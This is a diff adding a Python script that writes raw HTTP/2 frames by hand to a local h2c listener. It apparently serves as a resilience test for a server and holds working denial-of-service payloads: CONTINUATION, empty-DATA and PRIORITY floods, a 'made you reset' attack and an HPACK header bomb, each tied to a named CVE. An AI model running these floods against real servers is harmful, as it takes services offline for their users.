@@ -1,0 +1,132 @@
+"""Raw frames, to do what no library lets one do. Arguments: what to do, the port of an h2c listener.
+
+The frames are written by hand; the header blocks use HPACK's static table and literals (RFC 7541 §6, appendix A).
+"""
+import socket
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+GET = b"\x82\x86\x84\x01\x09localhost"
+POST = b"\x83\x86\x84\x01\x09localhost"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+class Client:
+    def __init__(self, port, settings=b""):
+        self.socket = socket.create_connection(("127.0.0.1", port))
+        self.received = b""
+        self.code = None
+        self.ended = False
+        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+
+    def frames(self, patience=0.0):
+        """What has come, whole frames only."""
+        self.socket.settimeout(patience or 0.000001)
+        try:
+            octets = self.socket.recv(1 << 20)
+            self.ended = not octets
+            self.received += octets
+        except (TimeoutError, BlockingIOError):
+            pass
+        except ConnectionError:
+            self.ended = True
+        while len(self.received) >= 9:
+            count = int.from_bytes(self.received[:3], "big")
+            if len(self.received) < 9 + count:
+                return
+            kind, flags = self.received[3], self.received[4]
+            stream = int.from_bytes(self.received[5:9], "big")
+            payload, self.received = self.received[9:9 + count], self.received[9 + count:]
+            if kind == GOAWAY:
+                self.code = int.from_bytes(payload[4:8], "big")
+            yield kind, flags, stream, payload
+
+    def flood(self, octets):
+        """Sends what `octets` gives for a number, again and again, until the connection is ended."""
+        try:
+            for index in range(1_000_000):
+                self.socket.settimeout(10)
+                self.socket.sendall(octets(index))
+                list(self.frames())
+                if self.code or self.ended:
+                    break
+        except (ConnectionError, TimeoutError):
+            list(self.frames(1))
+        print("goaway", self.code)
+
+
+def continuations(port):
+    client = Client(port)
+    client.socket.sendall(frame(HEADERS, 1, 1, GET))
+    client.flood(lambda _: frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x00" + b"x" * 127))
+
+
+def empty_data(port):
+    client = Client(port)
+    client.socket.sendall(frame(HEADERS, 4, 1, POST))
+    client.flood(lambda _: frame(DATA, 0, 1) * 10)
+
+
+def made_you_reset(port):
+    """CVE-2025-8671: has the other side reset each stream itself, here by a window that is too large."""
+    def attack(index):
+        stream = 2 * index + 1
+        return frame(HEADERS, 5, stream, GET) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
+    Client(port).flood(attack)
+
+
+def priorities(port):
+    Client(port).flood(lambda index: frame(PRIORITY, 0, 2 * index + 1, b"\x00\x00\x00\x00\x10") * 10)
+
+
+def bomb(port):
+    """CVE-2026-49975: few octets become large heads on as many streams as there may be, held by windows of zero that
+    single octets open."""
+    client = Client(port, struct.pack(">HI", 4, 0))
+    large = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000  # a literal of 4,000 octets that enters the dynamic table
+    first = GET + large + b"\xbe" * 13
+    again = GET + b"\xbe" * 14
+    for index in range(100):
+        client.socket.sendall(frame(HEADERS, 5, 2 * index + 1, again if index else first))
+    refused = set()
+    began = time.monotonic()
+    while time.monotonic() - began < 3 and not client.ended:
+        for kind, _, stream, payload in client.frames(0.1):
+            if kind == RST_STREAM and payload == b"\x00\x00\x00\x07":
+                refused.add(stream)
+        if time.monotonic() - began < 2.5:
+            client.socket.sendall(b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * index, b"\x00\x00\x00\x01")
+                                           for index in range(0, 5)))
+    print("open", 100 - len(refused), "ended", client.ended, "goaway", client.code)
+
+
+def many_requests(port):
+    """More requests than one connection takes: all up to the one that the last GOAWAY names are answered."""
+    client = Client(port)
+    answered, last, sent = set(), None, 0
+    while not client.ended:
+        if last is None and len(answered) == sent:
+            client.socket.settimeout(10)
+            client.socket.sendall(b"".join(
+                frame(HEADERS, 5, 2 * index + 1, GET) for index in range(sent, sent + 100)))
+            sent += 100
+        for kind, flags, stream, payload in client.frames(5):
+            if kind in (DATA, HEADERS) and flags & 1:
+                answered.add(stream)
+            if kind == PING and not flags & 1:
+                client.socket.sendall(frame(PING, 1, 0, payload))
+            if kind == SETTINGS and not flags & 1:
+                client.socket.sendall(frame(SETTINGS, 1, 0))
+            if kind == GOAWAY and payload[:4] != b"\x7f\xff\xff\xff":
+                last = int.from_bytes(payload[:4], "big")
+    expected = set(range(1, (last or 0) + 1, 2))
+    print("lost", len(expected - answered), "beyond", 10_000 <= len(expected) <= 10_200, "code", client.code)
+
+
+globals()[sys.argv[1]](int(sys.argv[2]))
